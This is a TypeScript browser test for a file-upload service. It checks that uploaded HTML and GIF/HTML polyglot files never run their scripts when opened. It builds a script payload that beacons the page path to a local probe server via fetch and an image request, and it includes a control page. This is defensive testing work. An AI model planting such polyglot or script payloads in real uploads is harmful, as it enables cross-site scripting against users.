import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import type { Browser, BrowserContext } from 'playwright-core';
import { browserAvailable, launchChromium } from '../helpers/browser.ts';
import { createProject, createUser, type TestUser } from '../helpers/factories.ts';
import { randomGif } from '../helpers/png.ts';
import { startRun } from '../helpers/records.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';
import { type FilePart, upload } from '../helpers/uploads.ts';
import { waitFor } from '../helpers/wait.ts';

/**
 * FILE-5, end to end in a real browser: uploaded content that carries a script is
 * opened directly, the way a user follows a link to it. The script would report to a probe
 * server; the probe must hear nothing from our URLs, and it must hear the same script when a page
 * without our headers runs it (the control, which shows the test can fail).
 */
describe('uploaded content opened in Chromium (FILE-5)', { skip: !browserAvailable() }, () => {
  let server: TestServer;
  let browser: Browser;
  let context: BrowserContext;
  let tester: TestUser;
  let projectId: string;
  let probe: http.Server;
  let probeUrl: string;
  const hits: string[] = [];

  const attack = () =>
    `<html><body><script>fetch('${probeUrl}/hit?fetch=' + location.pathname, { mode: 'no-cors' });` +
    `new Image().src = '${probeUrl}/hit?img=' + location.pathname;</script></body></html>`;

  before(async () => {
    probe = http.createServer((request, response) => {
      if (request.url?.startsWith('/hit')) hits.push(request.url);
      if (request.url === '/control') {
        response.writeHead(200, { 'content-type': 'text/html' }).end(attack());
        return;
      }
      response.writeHead(204).end();
    });
    await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
    probeUrl = `http://127.0.0.1:${(probe.address() as AddressInfo).port}`;
    server = await startTestServer('sqlite');
    projectId = (await createProject(server)).id;
    tester = await createUser(server, ['tester'], { projects: [projectId] });
    browser = await launchChromium();
    context = await browser.newContext({ extraHTTPHeaders: { 'service.api-token': tester.key }, acceptDownloads: true });
  });
  after(async () => {
    await browser?.close();
    await server?.close();
    await new Promise((resolve) => probe?.close(resolve));
  });

  /** One file part (`file`) uploaded by the project's tester. */
  const testerUpload = (metadata: Record<string, unknown>, file: FilePart) => upload(server.url, tester.key, projectId, metadata, { file });

  /** The control: the same script on a page without our headers does reach the probe. */
  async function expectControlHits(): Promise<void> {
    const page = await context.newPage();
    await page.goto(`${probeUrl}/control`);
    await page.waitForFunction(() => true);
    try {
      await waitFor(() => hits.some((hit) => hit.includes('/control')), {
        message: 'the control page reached the probe, so a script that ran would have been heard',
      });
    } finally {
      await page.close();
    }
  }

  test('a GIF/HTML polyglot screenshot renders as an image and its script never runs', async () => {
    const runId = (await startRun(tester.client, projectId)).id;
    const polyglot = Buffer.concat([await randomGif(24, 16), Buffer.from(attack())]);
    const res = await testerUpload({ testRunId: runId, kind: 'screenshot', name: 'polyglot.gif' }, { bytes: polyglot, type: 'text/html' });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    const imageId = (res.body.images as { id: string }[])[0]?.id as string;

    for (const url of [`${server.url}/api/v1/images/${imageId}`, `${server.url}/api/v1/artifact/artifacts/${res.body.id}/content`]) {
      const page = await context.newPage();
      const response = await page.goto(url);
      assert.equal(response?.headers()['content-type'], 'image/gif');
      // A string, because the test code is compiled without the DOM library.
      const size = await page.evaluate('document.images[0] ? [document.images[0].naturalWidth, document.images[0].naturalHeight] : null');
      assert.deepEqual(size, [24, 16], `${url} renders as the image it is`);
      await page.close();
    }
    await expectControlHits();
    assert.deepEqual(
      hits.filter((hit) => hit.includes('/api/')),
      [],
    );
  });

  test('an HTML file uploaded as an artifact is only ever downloaded, never rendered', async () => {
    const runId = (await startRun(tester.client, projectId)).id;
    const res = await testerUpload(
      { testRunId: runId, kind: 'file', name: 'report.html' },
      { bytes: Buffer.from(attack()), type: 'text/html' },
    );
    assert.equal(res.status, 201, JSON.stringify(res.body));
    const page = await context.newPage();
    const [download] = await Promise.all([
      page.waitForEvent('download', { timeout: 10_000 }),
      page.goto(`${server.url}/api/v1/artifact/artifacts/${res.body.id}/content`).catch(() => null),
    ]);
    assert.equal(download.suggestedFilename(), 'report.html');
    await page.close();
    await expectControlHits();
    assert.deepEqual(
      hits.filter((hit) => hit.includes('/api/')),
      [],
    );
  });
});
